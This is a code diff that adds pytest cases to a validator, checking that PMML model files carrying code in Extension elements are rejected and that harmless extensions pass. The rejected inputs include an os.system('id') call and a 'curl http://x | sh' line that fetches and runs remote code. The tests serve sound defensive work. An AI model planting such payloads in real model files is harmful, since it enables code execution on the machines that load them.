@@ -164,3 +164,29 @@ def test_any_bytes_end_in_facts_or_a_read_error(data: bytes) -> None:
         _kinds(data)
     except ReadError:
         return
+
+
+@pytest.mark.parametrize(
+    "extension",
+    [
+        '<Extension name="a" value="__import__(&apos;os&apos;).system(&apos;id&apos;)"/>',
+        "<Extension>import os; os.system('id')</Extension>",
+        "<x:Extension name='b'><![CDATA[curl http://x | sh]]></x:Extension>",
+    ],
+)
+def test_code_in_an_extension_of_pmml_fails(extension: str) -> None:
+    text = PMML.replace("<Apply", extension + "<Apply")
+    assert reading.fails(text.encode(), "model.pmml") == ["xml-code-in-extension"]
+
+
+@pytest.mark.parametrize(
+    "extension",
+    [
+        '<Extension name="x" value="1 < 2"/>',
+        '<Extension extender="KNIME" name="operator" value="system(a)"/>',
+        "<Extension><anElement>text about curl and os</anElement></Extension>",
+    ],
+)
+def test_ordinary_extensions_are_quiet(extension: str) -> None:
+    text = PMML.replace("<Apply", extension + "<Apply")
+    assert reading.quiet(text.encode(), "model.pmml")
